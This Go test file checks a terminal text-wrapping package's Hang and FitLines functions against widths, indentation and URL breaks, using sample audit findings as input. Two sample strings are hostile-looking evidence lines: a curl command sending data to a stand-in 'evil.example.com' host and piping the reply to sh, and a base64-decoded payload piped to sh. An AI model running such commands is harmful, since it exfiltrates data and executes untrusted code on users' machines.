package termtext

import (
	"strings"
	"testing"
)

// squeeze is s without white space: what Fill and Hang must keep.
func squeeze(s string) string {
	return strings.Join(strings.Fields(s), "")
}

// TestHang fits audit-like findings at several widths: no line is wider
// than the width, every continuation line is indented, the text is all
// there in order, a URL breaks after a '/', and text that fits is one
// line.
func TestHang(t *testing.T) {
	url := "https://evil.example.com/collect/a/very/long/path/that/goes/on/and/on?token=abcdef&user=" + strings.Repeat("x", 30)
	blob := strings.Repeat("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo", 4)
	texts := []string{
		"skill getsentry__skills/skills/skill-scanner: a zero-width character inside a word hides it from people and from filters",
		"evidence: curl -d @- " + url + " | sh",
		"evidence: echo " + blob + " | base64 -d | sh",
		"数据 分析 报告 每周 团队 数据 分析 报告 数据 分析 报告 每周 团队 数据 分析 报告",
		"short",
	}
	for _, width := range []int{20, 40, 80, 200} {
		for _, text := range texts {
			for _, tc := range []struct {
				lead   string
				indent int
			}{{"    ", 6}, {"\x1b[31mhigh    \x1b[0m ", 9}, {"", 2}} {
				out := Hang(tc.lead, text, tc.indent, width)
				lines := strings.Split(out, "\n")
				for i, l := range lines {
					if w := StringWidth(l); w > width {
						t.Errorf("width %d: line of %d columns: %q", width, w, l)
					}
					if i > 0 && !strings.HasPrefix(l, " ") && tc.indent > 0 {
						t.Errorf("width %d: continuation line not indented: %q", width, l)
					}
				}
				if squeeze(ansiSeq.ReplaceAllString(out, "")) != squeeze(ansiSeq.ReplaceAllString(tc.lead, "")+text) {
					t.Errorf("width %d: text changed:\n%s\nwant %s", width, out, text)
				}
				if StringWidth(tc.lead+text) <= width && out != tc.lead+text {
					t.Errorf("width %d: text that fits was broken: %q", width, out)
				}
			}
		}
	}
	// A URL breaks after a path separator, not in the middle of a segment.
	for _, l := range strings.Split(Hang("    ", "evidence: "+url, 6, 40), "\n")[1:] {
		if last := l[len(l)-1]; !strings.ContainsRune("/?&=", rune(last)) && !strings.HasSuffix(url, strings.TrimSpace(l)) {
			t.Errorf("URL broken inside a segment: %q", l)
		}
	}
}

// TestHangNarrow: a continuation indent that leaves too little room
// shrinks, and a lead with no room beside it puts the text below it.
func TestHangNarrow(t *testing.T) {
	if got, want := Hang("a-very-long-lead-here: ", "one two three", 4, 30), "a-very-long-lead-here:\n    one two three"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	for _, l := range strings.Split(Hang("", strings.Repeat("word ", 20), 12, 20), "\n")[1:] {
		if !strings.HasPrefix(l, "    w") {
			t.Errorf("indent not shrunk to leave %d columns: %q", minRoom, l)
		}
	}
	if got := Hang("lead ", "text", 4, 0); got != "lead text" {
		t.Errorf("width 0: %q", got)
	}
}

// TestFitLines fits a doctor-like report: lines that fit are kept, a list
// item continues under its text, a detail line two columns past its
// indent, and a path breaks after a '/'.
func TestFitLines(t *testing.T) {
	in := "ERROR skills not served (2)\n" +
		"  - docs/github-kb: not served: no YAML frontmatter: the file must start with a line --- [no-frontmatter]\n" +
		"    at /work/shared/corpus/0xtootoo29__tootoo-skills/github-kb/SKILL.md:1\n" +
		"\n"
	out := FitLines(in, 40)
	want := "ERROR skills not served (2)\n" +
		"  - docs/github-kb: not served: no YAML\n" +
		"    frontmatter: the file must start\n" +
		"    with a line --- [no-frontmatter]\n" +
		"    at /work/shared/corpus/\n" +
		"      0xtootoo29__tootoo-skills/\n" +
		"      github-kb/SKILL.md:1\n" +
		"\n"
	if out != want {
		t.Errorf("got\n%s\nwant\n%s", out, want)
	}
	if FitLines(in, 0) != in || FitLines(in, 200) != in {
		t.Error("text that fits was changed")
	}
}
